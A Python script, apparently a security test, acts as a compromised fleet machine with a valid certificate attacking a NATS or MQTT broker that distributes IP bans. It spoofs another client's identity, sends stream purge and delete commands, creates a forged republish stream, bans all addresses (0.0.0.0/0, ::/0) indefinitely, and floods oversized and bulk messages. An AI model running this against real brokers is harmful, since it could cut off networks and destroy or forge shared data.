"""A machine of a fleet in the wrong hands: it has a certificate, and tells the broker whatever it likes.

usage: poison.py nats-server|nats-stream|mosquitto BROKER NAME OTHER
Prints what the broker refuses; or creates the stream of a NATS server, and prints what that answers.
"""
import json, socket, ssl, struct, sys, time

program, broker, me, other = sys.argv[1:]
context = ssl.create_default_context(cafile="/etc/wardend/fleet/ca.pem")
context.load_cert_chain("/etc/wardend/fleet/certificate.pem", "/etc/wardend/fleet/key.pem")


def connect(port, greeted):
    plain = socket.create_connection((broker, port), 10)
    if greeted:
        plain.recv(65536)
    tls = context.wrap_socket(plain, server_hostname=broker)
    tls.settimeout(10)
    return tls


class Nats:
    own, others = me.replace(".", "_"), other.replace(".", "_")

    def __init__(self):
        self.tls = connect(4222, True)
        self.say('CONNECT {"verbose":false,"pedantic":false,"tls_required":true,"lang":"python","version":"0"}\r\nPING\r\n')

    def say(self, text):
        self.tls.sendall(text if isinstance(text, bytes) else text.encode())

    def publish(self, kind, name, body, sure=True):
        self.put(f"wardend.1.{kind}.{name}", body)

    def put(self, subject, body):
        self.say(b"PUB %s %d\r\n%s\r\n" % (subject.encode(), len(body), body))

    def steer(self):
        """Subjects that steer the broker."""
        self.put("$JS.API.STREAM.PURGE.WARDEND", b"")
        self.put("$JS.API.STREAM.DELETE.WARDEND", b"")
        self.put("$JS.API.STREAM.UPDATE.WARDEND", b"{}")
        self.put("$JS.API.CONSUMER.CREATE.WARDEND", b"{}")
        self.say("SUB $JS.API.> 7\r\n")

    def end(self):
        self.say("PING\r\n")
        self.tls.settimeout(3)
        heard = b""
        try:
            while heard.count(b"PONG") < 2:
                part = self.tls.recv(65536)
                if not part:
                    break
                heard += part
        except TimeoutError:
            pass
        print("\n".join(line for line in heard.decode(errors="replace").splitlines() if line.startswith("-ERR")))


class Mqtt:
    own, others = me, other

    def __init__(self):
        self.dial()

    def dial(self):
        # In the name of the other one, which has a connection of its own.
        self.tls = connect(8883, False)
        self.packet(0x10, self.text("MQTT") + b"\x05\x02\x00\x3c\x00" + self.text(other))
        print("connected", self.answer()[0] == 0x20)

    def text(self, text):
        return struct.pack("!H", len(text)) + text.encode()

    def packet(self, head, body):
        length, rest = b"", len(body)
        while True:
            rest, byte = rest >> 7, rest & 0x7F
            length += bytes([byte | (0x80 if rest else 0)])
            if not rest:
                break
        self.tls.sendall(bytes([head]) + length + body)

    def bytes(self, number):
        heard = b""
        while len(heard) < number:
            part = self.tls.recv(number - len(heard))
            if not part:
                raise ConnectionError("the broker has closed the connection")
            heard += part
        return heard

    def answer(self):
        head, length, shift = self.bytes(1)[0], 0, 0
        while True:
            byte = self.bytes(1)[0]
            length |= (byte & 0x7F) << shift
            shift += 7
            if byte < 0x80:
                return head, self.bytes(length)

    def publish(self, kind, name, body, sure=True):
        self.put(f"wardend/1/{kind}/{name}", body, sure)

    def put(self, topic, body, sure=True):
        try:
            if not sure:
                self.packet(0x30, self.text(topic) + b"\x00" + body)
                return
            self.packet(0x33, self.text(topic) + b"\x00\x01\x00" + body)
            head, rest = self.answer()
            reason = rest[2] if head == 0x40 and len(rest) > 2 else 0
            if reason >= 0x80 or head == 0xE0:
                print(f"refused {topic}: {reason:#x}")
            if head == 0xE0:
                self.dial()
        except OSError as error:
            print(f"refused {topic}: {error}")
            self.dial()

    def steer(self):
        self.publish("mark", other, b"1")
        self.publish("new", other.replace(".", "_") + "/x", b"1")
        self.put("elsewhere", b"1")

    def end(self):
        self.tls.close()


def say(kind, body, sure=True, whose=None):
    hand.publish(kind, whose or hand.own, body if isinstance(body, bytes) else json.dumps(body).encode(), sure)


if program == "nats-stream":
    # A stream that has the broker say what this machine has put, in the name of another one.
    hand = Nats()
    stream = {
        "name": "WARDEND", "subjects": ["wardend.1.doc.*"], "retention": "limits", "storage": "file", "discard": "old",
        "max_msgs_per_subject": 1, "max_msg_size": 65536, "num_replicas": 1, "allow_direct": True, "max_consumers": -1,
        "max_msgs": -1, "max_bytes": -1, "max_age": 0, "duplicate_window": 120000000000,
        "republish": {"src": f"wardend.1.doc.{Nats.own}", "dest": f"wardend.1.new.{Nats.others}"},
    }
    body = json.dumps(stream).encode()
    hand.say(f"SUB _INBOX.{Nats.own}.x 1\r\n")
    hand.say(b"PUB $JS.API.STREAM.CREATE.WARDEND _INBOX.%s.x %d\r\n%s\r\n" % (Nats.own.encode(), len(body), body))
    heard = b""
    while b"stream_create_response" not in heard or not heard.endswith(b"\r\n"):
        heard += hand.tls.recv(65536)
    sys.exit(print(heard.decode()))

hand = {"nats-server": Nats, "mosquitto": Mqtt}[program]()
now = int(time.time())
epoch = 2**62
news = lambda number, add, **more: {"v": 1, "epoch": epoch, "n": number, "now": now, "add": add, "sum": "0" * 16, **more}
# In another's name, and where the broker is steered.
say("new", news(1, [["198.51.100.77", now + 9999, "sshd", 1]]), whose=hand.others)
say("doc", news(1, []), whose=hand.others)
hand.steer()
# What no policy allows: everybody, networks, the broker, an end that never comes.
for source in ["0.0.0.0/0", "::/0", "0.0.0.0", "128.0.0.0/1", "198.51.100.9", "192.0.2.1"]:
    say("new", news(1, [[source, 2**63, "sshd", 1]]))
say("new", b"[" * 60000)
say("doc", b"{" * 65536)
say("doc", b"x" * 70000)
# A million sources, in numbers that run forwards and backwards, from a hundred starts.
for number in range(4000):
    add = [[f"{11 + number % 80}.{number % 250}.{at}.7", now + 9999, "sshd", 1] for at in range(80)]
    body = news(number if number % 3 else -number % 2**64, add)
    body["epoch"] = epoch + number % 100
    say("new", body, sure=False)
hand.end()
